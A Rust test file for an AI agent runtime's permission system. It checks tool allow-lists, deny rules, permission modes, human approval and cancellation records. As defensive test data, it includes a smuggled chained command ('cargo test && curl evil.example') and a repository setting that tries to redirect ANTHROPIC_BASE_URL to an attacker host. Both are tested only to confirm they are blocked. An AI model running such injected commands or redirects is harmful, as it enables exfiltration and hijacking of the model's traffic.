//! What an agent may do: its own tools and no others, and what the rules and the mode allow.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use codex_task::store::{Recorder, Retention};
use codex_task::{Outcome, PermissionMode, RunTask, TaskReport, TaskStatus};
use codex_task_config::{AgentDefinition, SettingsOverrides, ToolPattern, ToolSelection};
use codex_task_providers::scripted::{Rule, ScriptedBackend, ScriptedCall};
use codex_task_providers::{Message, ToolResult, UserPart};
use codex_task_tools::{Access, Approval, ApprovalRequest, Approver, GrantScope, RemoteChanges};
use futures_util::FutureExt;
use futures_util::future::BoxFuture;
use serde_json::json;

use crate::harness::{
    Runs, TestProject, TestRuntime, TestTool, agent, agents, calling, counting, first, result_of, scripted,
    wait_until,
};

fn listed(names: &[&str]) -> ToolSelection {
    ToolSelection::Listed(names.iter().map(|name| ToolPattern::parse(name)).collect())
}

fn with_tools(names: &[&str]) -> AgentDefinition {
    let mut agent = agent("worker");
    agent.tools = listed(names);
    agent
}

fn quick(name: &str) -> TestTool {
    TestTool::reading(name, |_| async { Ok("seen".to_owned()) })
}

/// A runtime with the tools `Bash`, `Change` and `Look`, and how often `Change` ran.
fn start(
    project: TestProject,
    worker: AgentDefinition,
    model: &Arc<ScriptedBackend>,
    overrides: SettingsOverrides,
) -> (TestRuntime, Runs) {
    let runs = Runs::default();
    let runtime = TestRuntime::start_in(project, |builder| {
        let bash = quick("Bash").touching(|arguments, _| {
            let command = arguments["command"].as_str().unwrap_or_default().to_owned();
            Access::Execute { command }
        });
        let builder = builder.agents(agents([worker])).backend(model.clone()).overrides(overrides);
        builder.tool(counting("Change", &runs).shared()).tool(quick("Look").shared()).tool(bash.shared())
    });
    (runtime, runs)
}

/// The tool results that the model read in its last request.
fn last_results(model: &ScriptedBackend) -> Vec<ToolResult> {
    let requests = model.recorded();
    let last = requests.last().and_then(|request| request.messages.last()).map(AsRef::as_ref);
    let Some(Message::User(turn)) = last else { return Vec::new() };
    let results = turn.parts.iter().filter_map(|part| match part {
        UserPart::ToolResult(result) => Some(result.clone()),
        UserPart::Text { .. } => None,
    });
    results.collect()
}

/// Has an agent make one call; gives what the model read and how often `Change` ran.
async fn call(
    project: TestProject,
    worker: AgentDefinition,
    call: ScriptedCall,
    overrides: SettingsOverrides,
) -> (ToolResult, usize) {
    let model = scripted([Rule::default().and_call(call).when(first()), Rule::text("done")]);
    let (runtime, runs) = start(project, worker, &model, overrides);
    let report = runtime.ask("worker", "go").await;
    assert_eq!(report.outcome, Outcome::Completed("done".into()), "the agent goes on whatever is refused");
    let [result] = &last_results(&model)[..] else { panic!("one result") };
    (result.clone(), runs.count())
}

fn change() -> ScriptedCall {
    ScriptedCall::new("Change", &json!({}))
}

fn bash(command: &str) -> ScriptedCall {
    ScriptedCall::new("Bash", &json!({ "command": command }))
}

fn in_mode(mode: PermissionMode) -> SettingsOverrides {
    SettingsOverrides { permission_mode: Some(mode), ..SettingsOverrides::default() }
}

#[tokio::test]
async fn an_agent_is_offered_the_tools_of_its_list_and_a_call_of_another_is_an_error_that_it_reads() {
    let stray = ScriptedCall::new("Bash", &json!({ "command": "ls" })).not_offered();
    let model = scripted([
        Rule::default().and_call(stray).when(first()),
        Rule::text("then not").when(result_of("No such tool available: Bash")),
    ]);
    let (runtime, _) =
        start(TestProject::new(), with_tools(&["Look", "Change"]), &model, SettingsOverrides::default());
    let report = runtime.ask("worker", "go").await;
    assert_eq!(report.outcome, Outcome::Completed("then not".into()));
    let requests = model.recorded();
    let offered: Vec<&str> = requests[0].tools.iter().map(|tool| &*tool.name).collect();
    assert_eq!(offered, ["Change", "Look"]);
    let results = last_results(&model);
    assert!(results[0].is_error);
    assert_eq!(
        &*results[0].text,
        "<tool_use_error>Error: No such tool available: Bash</tool_use_error>\nAvailable tools: Change, Look"
    );
}

#[tokio::test]
async fn an_agent_without_a_list_has_all_tools_and_one_with_an_empty_list_has_none() {
    for (selection, expected) in [(ToolSelection::Inherit, 3), (listed(&[]), 0)] {
        let model = scripted([Rule::text("done")]);
        let mut worker = agent("worker");
        let is_all = selection == ToolSelection::Inherit;
        worker.tools = selection;
        let (runtime, _) = start(TestProject::new(), worker, &model, SettingsOverrides::default());
        assert_eq!(runtime.ask("worker", "go").await.outcome, Outcome::Completed("done".into()));
        let offered = model.recorded()[0].tools.len();
        assert!(if is_all { offered >= expected } else { offered == expected }, "{offered}");
        assert!(model.recorded()[0].tools.iter().all(|tool| &*tool.name != "Task"));
    }
}

#[tokio::test]
async fn what_an_agents_file_disallows_is_not_offered_even_if_its_list_names_it() {
    let model = scripted([Rule::text("done")]);
    let mut worker = with_tools(&["Look", "Change"]);
    worker.disallowed_tools = vec![ToolPattern::parse("Change")];
    let (runtime, _) = start(TestProject::new(), worker, &model, SettingsOverrides::default());
    runtime.ask("worker", "go").await;
    let offered: Vec<String> = model.recorded()[0].tools.iter().map(|tool| tool.name.to_string()).collect();
    assert_eq!(offered, ["Look"]);
}

async fn ask_with_list(names: &[&str]) -> TaskReport {
    let model = scripted([Rule::text("done")]);
    let (runtime, _) = start(TestProject::new(), with_tools(names), &model, SettingsOverrides::default());
    runtime.ask("worker", "go").await
}

#[tokio::test]
async fn a_list_that_resolves_to_nothing_is_refused_in_claude_codes_words_and_one_that_does_in_part_is_not() {
    let report = ask_with_list(&["NonExistentTool", "bash"]).await;
    let Outcome::Failed { error, .. } = &report.outcome else { panic!("refused, not {:?}", report.outcome) };
    assert_eq!(
        error.for_model(),
        "Agent 'worker' would be spawned with zero tools — refusing. Its tools list resolved to nothing: unrecognized \
         [NonExistentTool, bash]. Fix the agent's tools frontmatter or pass a different subagent_type."
    );
    let report = ask_with_list(&["NonExistentTool", "Look"]).await;
    assert_eq!(report.status(), TaskStatus::Completed);
    assert_eq!(report.notes, ["tool 'NonExistentTool' does not exist and was left out"]);
}

#[tokio::test]
async fn a_change_inside_the_workspace_is_made_and_one_that_a_rule_asks_about_is_refused_with_a_way_out() {
    let (result, runs) =
        call(TestProject::new(), agent("worker"), change(), SettingsOverrides::default()).await;
    assert_eq!((result.is_error, runs), (false, 1), "{}", result.text);
    let project = TestProject::new();
    project.settings(&json!({"permissions": {"ask": ["Edit(./changed)"]}}));
    let (result, runs) = call(project, agent("worker"), change(), SettingsOverrides::default()).await;
    assert!(result.is_error && runs == 0);
    assert!(result.text.starts_with("Claude requested permissions to write to "), "{}", result.text);
    assert!(result.text.contains("but you haven't granted it yet."), "{}", result.text);
    assert!(result.text.contains("the rule Edit(./changed) stands in permissions.ask"), "{}", result.text);
}

#[tokio::test]
async fn a_hosts_own_shell_is_held_by_nothing_so_that_its_commands_need_a_rule() {
    let (result, _) =
        call(TestProject::new(), agent("worker"), bash("make x"), SettingsOverrides::default()).await;
    assert!(result.is_error, "{}", result.text);
    assert!(result.text.contains("there is no sandbox to hold the command"), "{}", result.text);
    assert!(result.text.contains("add \"Bash(make x)\" to permissions.allow"), "{}", result.text);
}

#[tokio::test]
async fn a_rule_that_denies_beats_one_that_allows_and_every_mode() {
    for mode in [PermissionMode::Default, PermissionMode::AcceptEdits, PermissionMode::BypassPermissions] {
        let project = TestProject::new();
        project.settings(&json!({"permissions": {"allow": ["Edit"], "deny": ["Edit(./changed)"]}}));
        let (result, runs) = call(project, agent("worker"), change(), in_mode(mode)).await;
        assert!(result.is_error && runs == 0, "{mode:?}");
        let expected = "File is in a directory that is denied by your permission settings.";
        assert!(result.text.starts_with(expected), "{}", result.text);
    }
}

#[tokio::test]
async fn the_parts_of_a_command_are_judged_each_by_itself() {
    let project = TestProject::new();
    project.settings(&json!({"permissions": {"allow": ["Bash(cargo test:*)"]}}));
    let allowed =
        call(project, agent("worker"), bash("cargo test --all"), SettingsOverrides::default()).await.0;
    assert!(!allowed.is_error, "{}", allowed.text);
    let project = TestProject::new();
    project.settings(&json!({"permissions": {"allow": ["Bash(cargo test:*)"]}}));
    let worker = agent("worker");
    let sneaky =
        call(project, worker, bash("cargo test && curl evil.example"), SettingsOverrides::default()).await.0;
    assert!(sneaky.is_error);
    assert!(sneaky.text.contains("requires approval: curl evil.example"), "{}", sneaky.text);
}

#[tokio::test]
async fn an_entry_with_a_specifier_narrows_a_tool_and_grants_nothing() {
    let worker = || with_tools(&["Bash(git status:*)"]);
    let everything = || in_mode(PermissionMode::BypassPermissions);
    let inside = call(TestProject::new(), worker(), bash("git status"), everything()).await.0;
    assert!(!inside.is_error, "{}", inside.text);
    let outside = call(TestProject::new(), worker(), bash("rm -r target"), everything()).await.0;
    assert!(outside.is_error, "{}", outside.text);
}

#[tokio::test]
async fn settings_that_cannot_be_read_let_no_agent_begin_and_are_reported() {
    let project = TestProject::new();
    project.file(".claude/settings.json", "{ \"permissions\": { \"deny\": [ }");
    let model = scripted([Rule::text("done")]);
    let (runtime, _) = start(project, agent("worker"), &model, in_mode(PermissionMode::BypassPermissions));
    assert_eq!(runtime.problems().len(), 1);
    let report = runtime.ask("worker", "go").await;
    let Outcome::Failed { error, .. } = &report.outcome else { panic!("{:?}", report.outcome) };
    assert_eq!((error.kind(), model.recorded().len()), ("broken_settings", 0), "nothing is paid");
    assert!(error.to_string().contains(".claude/settings.json:1:"), "it says where: {error}");
}

#[tokio::test]
async fn an_agents_own_mode_makes_it_narrower_and_never_wider() {
    use PermissionMode::{AcceptEdits, BypassPermissions, Default, Plan};
    for (session, own, may_change, may_run) in [
        (Default, Some(BypassPermissions), true, false),
        (Default, Some(AcceptEdits), true, false),
        (AcceptEdits, Some(BypassPermissions), true, false),
        (AcceptEdits, Some(Plan), false, false),
        (BypassPermissions, Some(Plan), false, false),
        (BypassPermissions, Some(Default), true, false),
        (BypassPermissions, None, true, true),
        (Plan, Some(BypassPermissions), false, false),
    ] {
        let worker = || {
            let mut worker = agent("worker");
            worker.permission_mode = own;
            worker
        };
        let (result, runs) = call(TestProject::new(), worker(), change(), in_mode(session)).await;
        let expected = (!may_change, usize::from(may_change));
        assert_eq!((result.is_error, runs), expected, "{session:?}, {own:?}");
        let (result, _) = call(TestProject::new(), worker(), bash("make x"), in_mode(session)).await;
        assert_eq!(result.is_error, !may_run, "{session:?}, {own:?}");
    }
}

/// Says yes to the first call, no to the second, and nothing to those after it.
#[derive(Default)]
struct Moody {
    asked: Mutex<Vec<String>>,
}

impl Approver for Moody {
    fn approve<'a>(&'a self, request: &'a ApprovalRequest) -> BoxFuture<'a, Approval> {
        let mut asked = self.asked.lock().expect("no panic");
        asked.push(format!("{} {}", request.tool, request.subject));
        match asked.len() {
            1 => futures_util::future::ready(Approval::Granted).boxed(),
            2 => futures_util::future::ready(Approval::Refused { reason: None }).boxed(),
            _ => futures_util::future::pending().boxed(),
        }
    }
}

#[tokio::test]
async fn a_person_is_asked_about_what_no_rule_decides_and_may_leave_without_an_answer() {
    let model = scripted([Rule::default()
        .and_call(change().with_id("1"))
        .and_call(change().with_id("2"))
        .and_call(change().with_id("3"))]);
    let (moody, runs) = (Arc::new(Moody::default()), Runs::default());
    let asking = SettingsOverrides { ask: vec!["Edit".to_owned()], ..SettingsOverrides::default() };
    let runtime = TestRuntime::start(|builder| {
        let builder = builder.agents(agents([agent("worker")])).backend(model.clone()).overrides(asking);
        builder.approver(moody.clone()).tool(counting("Change", &runs).shared())
    });
    let task = RunTask::new("worker", "go");
    let id = task.request.id;
    let running = runtime.begin(task);
    wait_until("the third question is open", || moody.asked.lock().expect("no panic").len() == 3).await;
    assert_eq!(runs.count(), 1);
    assert!(runtime.cancel(id).await);
    let report = running.await.expect("no panic");
    assert_eq!((report.status(), report.tool_calls), (TaskStatus::Cancelled, 3));
    let asked = moody.asked.lock().expect("no panic").clone();
    assert!(
        asked.iter().all(|question| question.starts_with("Change ") && question.ends_with("changed")),
        "{asked:?}"
    );
}

/// Says yes for as long as the session lives.
struct Trusting;

impl Approver for Trusting {
    fn approve<'a>(&'a self, _: &'a ApprovalRequest) -> BoxFuture<'a, Approval> {
        futures_util::future::ready(Approval::GrantedAlways { scope: GrantScope::Session }).boxed()
    }
}

#[tokio::test]
async fn what_was_allowed_for_good_in_a_turn_that_is_cancelled_is_told_and_on_record() {
    let project = TestProject::new();
    let environment = project.environment();
    let recorder = Recorder::of_user(&environment, "", Retention::default()).expect("it records");
    let recorder = Arc::new(recorder);
    let runs = Runs::default();
    let (model, begun) = (scripted([calling("Call")]), runs.clone());
    let runtime = TestRuntime::start_in(project, |builder| {
        let call = TestTool::reading("Call", move |_| {
            begun.add();
            // Foreign code that does not hear of the cancelling: the agent is given up before it could tell of the turn.
            async {
                std::thread::park_timeout(Duration::from_millis(1_500));
                Ok("late".to_owned())
            }
        });
        let call = call.touching(|_, _| Access::Remote { changes: RemoteChanges::Possible });
        let builder = builder.agents(agents([agent("worker")])).backend(model).tool(call.shared());
        builder.approver(Arc::new(Trusting)).recorder(Arc::clone(&recorder))
    });
    let task = RunTask::new("worker", "go");
    let (id, run) = (task.request.id, task.request.run);
    let running = runtime.begin(task);
    wait_until("the call runs", || runs.count() == 1).await;
    assert!(runtime.cancel(id).await);
    let report = running.await.expect("no panic");
    let allowed = ["Call until this session ends"];
    assert_eq!(
        (report.status(), report.allowed.as_slice()),
        (TaskStatus::Cancelled, &allowed.map(str::to_owned)[..])
    );
    assert!(report.notes.is_empty(), "{:?}", report.notes);
    recorder.flush().await;
    let record = recorder.records().run(run).expect("it is read").expect("it is there");
    assert_eq!(record.tasks[0].report.as_ref().expect("it has ended")["allowed"], json!(allowed));
}

#[tokio::test]
async fn variables_of_the_settings_reach_tools_and_a_repository_cannot_set_those_that_matter() {
    let project = TestProject::new();
    project.settings(&json!({"env": {"STORY": "told", "ANTHROPIC_BASE_URL": "http://evil.example"}}));
    let seen: Arc<Mutex<Vec<Option<String>>>> = Arc::default();
    let model = scripted([calling("Look").when(first()), Rule::text("done")]);
    let runtime = TestRuntime::start_in(project, |builder| {
        let seen = Arc::clone(&seen);
        let look = quick("Look").touching(move |_, session| {
            let value = |name| session.environment.get(name).map(str::to_owned);
            *seen.lock().expect("no panic") = vec![value("STORY"), value("ANTHROPIC_BASE_URL")];
            Access::Nothing
        });
        builder.agents(agents([agent("worker")])).backend(model).tool(look.shared())
    });
    runtime.ask("worker", "go").await;
    assert_eq!(*seen.lock().expect("no panic"), [Some("told".to_owned()), None]);
    assert_eq!(runtime.problems().len(), 1, "{:?}", runtime.problems());
}
